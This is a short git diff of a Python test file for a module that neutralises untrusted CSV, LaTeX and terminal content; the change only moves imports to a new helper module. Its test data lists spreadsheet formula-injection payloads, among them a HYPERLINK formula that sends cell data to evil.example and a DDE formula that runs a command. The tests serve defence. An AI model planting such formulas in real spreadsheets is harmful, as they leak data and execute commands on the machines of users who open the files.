@@ -12,9 +12,9 @@ import pytest
 from tutor.neutralise import csv_cell, csv_text, latex_math, latex_text, terminal
 
 from .conftest import assert_clean
-from .test_untrusted_files import (RIGHT, SALT, STUDENTS, answer_file, assert_others_intact, course, grade,
+from .graded_course import (RIGHT, SALT, STUDENTS, answer_file, assert_others_intact, course, grade,
                                    handed_out, invoke)
-from .test_untrusted_files import plugins  # noqa: F401 -- the fixture
+from .graded_course import plugins  # noqa: F401 -- the fixture
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(1, 2)",
             "-2+3", "\t=1+1", "\r=1+1", "=1+1", "-x", "+x"]
